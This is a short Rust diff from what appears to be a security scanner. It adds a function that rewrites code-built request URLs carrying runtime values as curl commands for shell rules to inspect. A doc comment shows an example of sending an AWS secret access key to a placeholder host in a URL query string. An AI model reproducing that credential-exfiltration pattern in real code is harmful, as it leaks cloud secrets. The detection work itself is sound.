@@ -110,7 +110,27 @@ fn apply(reading: &Reading, origin: Origin, cmd: &Command, scan: &mut Scan<'_>) 
     }
     network(reading, &sent, who, scan);
     lines.extend(outputs_sent(reading));
+    lines.extend(addresses_built(reading));
     lines
+}
+
+/// An address the code builds with a value only known when it runs, as curl would ask for
+/// it, for the shell's rules to read what the value's name says (`urlopen("https://x/?k=" +
+/// os.environ["AWS_SECRET_ACCESS_KEY"])` is `curl "https://x/?k=${aws_secret_access_key}"`:
+/// a secret in an address). Only an address the shell reads as the one text it is.
+fn addresses_built(reading: &Reading) -> Vec<String> {
+    reading
+        .requests
+        .iter()
+        .filter(|request| {
+            request.host.is_some()
+                && request.url.contains("${")
+                && !request.url.contains(['"', '`', '\\'])
+                && !request.url.contains("$(")
+        })
+        .take(8)
+        .map(|request| format!("curl -s \"{}\"", request.url))
+        .collect()
 }
 
 /// What a command the code runs prints, sent by a request of the same code (`get("https://x/?d="
